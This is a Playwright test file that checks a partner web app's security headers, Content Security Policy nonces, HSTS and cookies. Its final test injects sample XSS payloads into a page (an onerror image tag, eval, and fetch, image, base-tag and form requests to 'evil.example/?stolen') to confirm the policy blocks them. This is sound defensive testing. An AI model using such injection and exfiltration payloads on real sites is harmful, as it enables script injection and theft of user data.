import type { Page } from '@playwright/test'
import { test as httpTest } from '../http-test'
import { PersonWithoutBrowser } from '../stack/person-without-browser'
import { type Stack, startStack } from '../stack/stack'
import { test as stackTest } from '../stack-test'
import { expect, test } from '../test'

const pages = ['/settings/api-keys', '/signed-out', '/sign-in-problem?reason=expired', '/nothing-here']
const everywhere = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'no-referrer',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'permissions-policy': expect.stringContaining('camera=()'),
}

const directivesOf = (policy: string) =>
  Object.fromEntries(
    policy.split('; ').map((directive) => {
      const [name = '', ...values] = directive.split(' ')
      return [name, values.join(' ')]
    }),
  )

const olivia = ({ appUrl }: Stack) => PersonWithoutBrowser.signIn(appUrl, 'user_olivia', 'partner_ledgerline')

httpTest('every page has a policy with a nonce of its own, and nothing unsafe in it', async ({ stack }) => {
  const person = await olivia(stack)
  const nonces = new Set<string>()
  for (const path of [...pages, ...pages]) {
    const answer = await person.request(stack.appUrl, 'GET', path)
    const headers = Object.fromEntries(answer.headers)
    expect(headers, path).toMatchObject(everywhere)
    expect(headers, 'no version of anything').not.toHaveProperty('x-powered-by')
    expect(headers, 'https is not promised over http').not.toHaveProperty('strict-transport-security')
    const policy = directivesOf(headers['content-security-policy'] ?? '')
    const nonce = /'nonce-(\w{32})'/.exec(policy['script-src'] ?? '')?.[1] ?? ''
    expect(policy).toMatchObject({
      'default-src': "'none'",
      'script-src': `'self' 'nonce-${nonce}' 'strict-dynamic'`,
      'connect-src': "'self'",
      'frame-ancestors': "'none'",
      'base-uri': "'none'",
      'object-src': "'none'",
      'form-action': `'self' ${stack.sandboxUrl}`,
      'require-trusted-types-for': "'script'",
    })
    expect(JSON.stringify(policy)).not.toMatch(/unsafe|\*|http:\/\/(?!localhost)/)
    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? []
    expect(
      scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`)),
      path,
    ).toEqual([])
    nonces.add(nonce)
  }
  expect(nonces.size, 'a nonce is used once').toBe(pages.length * 2)
})

httpTest('what exists for developing is not there, not even for who is signed in', async ({ stack }) => {
  const person = await olivia(stack)
  for (const path of ['/states', '/states?state=ui/dialog', '/states/page.dev', '/states/states']) {
    expect((await person.request(stack.appUrl, 'GET', path)).status, path).toBe(404)
  }
})

httpTest('every answer of the API may be neither kept, nor framed, nor run', async ({ stack }) => {
  const person = await olivia(stack)
  for (const path of ['/api/api-keys', '/api/health/live', '/api/nothing-here', '/api/session/sign-in']) {
    const answer = await person.request(stack.appUrl, 'GET', path)
    const headers = Object.fromEntries(answer.headers)
    expect(headers, path).toMatchObject({
      ...everywhere,
      'cache-control': expect.stringContaining('no-store'),
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
    })
    expect(headers).not.toHaveProperty('access-control-allow-origin')
  }
})

stackTest('on https: strict transport security, and cookies that only this host can set', async () => {
  stackTest.slow()
  const stack = await startStack((sandboxUrl) => ({
    APP_URL: 'https://partners.example',
    SESSION_SECRET: 'Jw4kTn8sYb1xRf6vHc3zMq9dLg2pEu7a',
    PARTNER_API_URL: sandboxUrl,
    AUTH_URL: sandboxUrl,
    AUTH_CLIENT_ID: 'partner-experience',
    AUTH_CLIENT_SECRET: 'sandbox-secret',
  }))
  try {
    const page = await fetch(`${stack.appUrl}/signed-out`)
    expect(page.headers.get('strict-transport-security')).toBe('max-age=2592000')
    expect(page.headers.get('content-security-policy')).toContain('upgrade-insecure-requests')
    const signIn = await fetch(`${stack.appUrl}/api/session/sign-in`, { redirect: 'manual' })
    expect(signIn.headers.get('set-cookie')).toMatch(
      /^__Host-sign-in-.*; Path=\/; HttpOnly; SameSite=Lax; Max-Age=600; Secure$/,
    )
    expect(signIn.headers.get('location')).toContain(
      encodeURIComponent('https://partners.example/api/session/callback'),
    )
  } finally {
    await stack.stop()
  }
})

/** What the browser reports as violations from now on. */
async function violationsDuring(page: Page, attack: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = []
    Object.assign(window, { seen })
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
  })
  await page.evaluate(attack)
  await page.waitForTimeout(300)
  return page.evaluate(() => (window as unknown as { seen: string[] }).seen)
}

const attacks: [name: string, directive: RegExp, attack: () => unknown][] = [
  [
    'a script put into the page',
    /script-src|require-trusted-types-for/,
    () => {
      const script = document.createElement('script')
      try {
        script.textContent = 'window.ran = true'
      } catch {}
      document.body.append(script)
    },
  ],
  [
    'an inline handler',
    /script-src-attr|require-trusted-types-for/,
    () => {
      const image = document.createElement('img')
      try {
        image.setAttribute('onerror', 'window.ran = true')
      } catch {}
      image.src = '/nothing-here.png'
      document.body.append(image)
    },
  ],
  [
    'markup as text',
    /require-trusted-types-for/,
    () => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">')
      } catch {}
    },
  ],
  [
    'eval',
    /script-src|require-trusted-types-for/,
    () =>
      // Later: the debugger's own evaluation, in which this runs, may use eval.
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: it is the attack.
          globalThis.eval('window.ran = true')
        } catch {}
      }),
  ],
  ['a request elsewhere', /connect-src/, () => fetch('https://evil.example/?stolen').catch(() => {})],
  [
    'an image elsewhere',
    /img-src/,
    () => {
      new Image().src = 'https://evil.example/?stolen'
    },
  ],
  [
    'another base for every address',
    /base-uri/,
    () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    },
  ],
  [
    'a form that posts elsewhere',
    /form-action/,
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  ],
]

test('the policy stops what gets into a page', async ({ signedIn, browserWatch }) => {
  browserWatch.expect(/evil\.example|violat|Trusted|Content Security Policy|404/i)
  const page = await signedIn('Olivia Owner')
  for (const [name, directive, attack] of attacks) {
    await page.goto('/settings/api-keys')
    const violations = await violationsDuring(page, attack)
    expect(violations.join(), name).toMatch(directive)
    const ran = await page.evaluate(() => (window as unknown as { ran?: boolean }).ran)
    expect(ran, name).toBeUndefined()
  }
})
